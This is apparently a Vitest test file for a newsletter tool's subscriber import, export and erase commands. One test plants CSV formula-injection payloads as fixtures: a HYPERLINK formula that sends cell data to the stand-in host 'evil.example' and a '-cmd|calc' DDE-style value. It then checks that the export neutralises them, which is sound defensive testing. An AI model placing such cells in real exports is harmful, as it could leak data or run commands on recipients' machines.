import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { readFileSync, statSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { simpleParser } from 'mailparser';
import { parse } from 'csv-parse/sync';
import { makeProject, CONSENTING, type TestProject } from '../helpers/project.js';
import { startSmtpSink, type SmtpSink } from '../helpers/smtp-sink.js';
import { runCli } from '../helpers/cli.js';

/** The sample list's first issue (slot Mon 2026-11-23), whatever today is. */
const PINNED_AT = '2026-11-28T12:00:00Z';

describe('subscribers import, export, forget', () => {
  let project: TestProject;
  let sink: SmtpSink;
  beforeEach(async () => {
    project = makeProject();
    sink = await startSmtpSink();
  });
  afterEach(async () => {
    await sink.close();
    project.cleanup();
  });
  const cli = (...args: string[]) => runCli([...args, '--config', project.configFile], { env: { SMTP_URL: sink.url } });

  it('send applies a list file of 4 MiB or more in a thread of its own, with the same counts and problems', async () => {
    const pad = 'x'.repeat(160);
    const rows = ['email,name,locale,timezone,status,consented_at,source,topics'];
    for (let i = 0; i < 24_000; i++) rows.push(`r${i}@example.com,Reader ${i} ${pad},fr,Europe/Paris,subscribed,2026-05-01T00:00:00Z,crm,`);
    rows.splice(5, 0, 'not-an-address,Bad,,,subscribed,2026-05-01T00:00:00Z,crm,');
    const list = join(project.dir, 'subscribers', 'weekly-brief.csv');
    writeFileSync(list, rows.join('\n') + '\n');
    expect(statSync(list).size).toBeGreaterThan(4 * 1024 * 1024);
    const r = await runCli(['send', '--dry-run', '--json', '--at', PINNED_AT, '--config', project.configFile], { timeoutMs: 60_000 });
    expect(r.code, r.stderr).toBe(0);
    expect(r.stderr).toContain('applying the subscriber list in a thread of its own');
    expect(r.stderr).toContain(`${list}:6: "not-an-address" is not a valid email address`);
    const [summary] = JSON.parse(r.stdout) as { wouldSend: number; audience: Record<string, number> }[];
    expect(summary!.wouldSend).toBe(24_000);
    expect(summary!.audience.consent).toBe(24_000);
    // Applied and marked as synced by the thread: the next command only hashes the file.
    const again = await runCli(['send', '--dry-run', '--at', PINNED_AT, '--config', project.configFile], { timeoutMs: 60_000 });
    expect(again.code, again.stderr).toBe(0);
    expect(again.stderr).not.toContain('in a thread of its own');
    expect(again.stderr).toContain(`${list}:6: "not-an-address" is not a valid email address`);
  });

  it('imports idempotently with extra columns usable in templates, exports the current state, and forgets a person for good', async () => {
    // The footer shows the reader's company from the list's extra column.
    const footer = join(project.dir, 'templates/default/partials/footer.hbs');
    writeFileSync(footer, readFileSync(footer, 'utf8').replace('{{newsletter.postalAddress}}', '{{newsletter.postalAddress}} · {{attr "company"}}'));
    const list = join(project.dir, 'crm.csv');
    writeFileSync(
      list,
      [
        'email,name,locale,timezone,status,consented_at,source,topics,company',
        'kim@example.com,Kim,en,UTC,subscribed,2026-05-01T00:00:00Z,crm,,Acme & Sons',
        'lee@example.com,Lee,fr,Europe/Paris,subscribed,2026-05-01T00:00:00Z,crm,,',
      ].join('\n'),
    );
    const first = await cli('subscribers', 'import', list);
    expect(first.code, first.stderr).toBe(0);
    expect(first.stderr).toContain('2 consent change(s) recorded');
    expect((await cli('subscribers', 'import', list)).stderr).toContain('0 consent change(s) recorded');

    const send = await cli('send', '--at', PINNED_AT);
    expect(send.code, send.stderr).toBe(0);
    const byTo = new Map(await Promise.all(sink.received.map(async (r) => [r.to[0]!, await simpleParser(r.raw)] as const)));
    expect(byTo.get('kim@example.com')!.html).toContain('Acme &amp; Sons');
    expect(byTo.get('lee@example.com')!.text).not.toContain('Acme');
    expect([...byTo.keys()].sort()).toEqual([...CONSENTING, 'kim@example.com', 'lee@example.com'].sort());

    const out = join(project.dir, 'export.csv');
    expect((await cli('subscribers', 'export', '--out', out)).code).toBe(0);
    const rows = parse(readFileSync(out, 'utf8'), { columns: true }) as Record<string, string>[];
    const status = Object.fromEntries(rows.map((r) => [r.email, r.status]));
    expect(status).toMatchObject({ 'ada@example.com': 'subscribed', 'waiting@example.com': 'pending', 'former@example.com': 'unsubscribed', 'kim@example.com': 'subscribed' });
    expect(rows.find((r) => r.email === 'kim@example.com')).toMatchObject({ company: 'Acme & Sons', consented_at: '2026-05-01T00:00:00.000Z', source: 'crm' });
    const stdout = await cli('subscribers', 'export');
    expect(stdout.stdout.split('\n')[0]).toBe('email,name,locale,timezone,status,consented_at,source,topics,company');

    const forget = await cli('subscribers', 'forget', 'KIM@example.com');
    expect(forget.code).toBe(0);
    expect((await cli('subscribers', 'show', 'kim@example.com')).code).toBe(2);
    expect((await cli('subscribers', 'export')).stdout).not.toContain('kim@example.com');
    const reimport = await cli('subscribers', 'import', list);
    expect(reimport.stderr).toContain("kim@example.com was erased at the person's request; not imported");
    expect((await cli('subscribers', 'show', 'kim@example.com')).code).toBe(2);
  }, 120_000);

  it('export on a store that never synced shows the list file (it syncs first), its cells that a spreadsheet would run as formulas neutralised', async () => {
    const list = join(project.dir, 'subscribers', 'weekly-brief.csv');
    writeFileSync(
      list,
      readFileSync(list, 'utf8') +
        [
          'eve@example.org,"=HYPERLINK(""http://evil.example/?""&A1,""click"")",en,,subscribed,2026-01-01T00:00:00Z,form,',
          'plus@example.org,+33 1 23 45 67 89,en,,subscribed,2026-01-01T00:00:00Z,form,',
          'at@example.org,@SUM(1+1),en,,subscribed,2026-01-01T00:00:00Z,-cmd|calc,',
          'tab@example.org,\tTabbed,en,,subscribed,2026-01-01T00:00:00Z,form,',
        ].join('\n') +
        '\n',
    );
    const exported = await cli('subscribers', 'export');
    expect(exported.code, exported.stderr).toBe(0);
    const rows = parse(exported.stdout, { columns: true }) as Record<string, string>[];
    const byEmail = new Map(rows.map((r) => [r.email, r]));
    // Synced before exporting: the sample list's readers are there on a store nothing else opened.
    for (const e of CONSENTING) expect(byEmail.get(e)?.status, e).toBe('subscribed');
    expect(byEmail.get('eve@example.org')!.name).toBe('\'=HYPERLINK("http://evil.example/?"&A1,"click")');
    expect(byEmail.get('plus@example.org')!.name).toBe("'+33 1 23 45 67 89");
    expect(byEmail.get('at@example.org')).toMatchObject({ name: "'@SUM(1+1)", source: "'-cmd|calc" });
    // No cell of the export starts with a formula character.
    for (const r of rows) for (const [k, v] of Object.entries(r)) expect(/^[=+\-@\t\r]/.test(v), `${r.email} ${k}: ${v}`).toBe(false);
  }, 60_000);
});
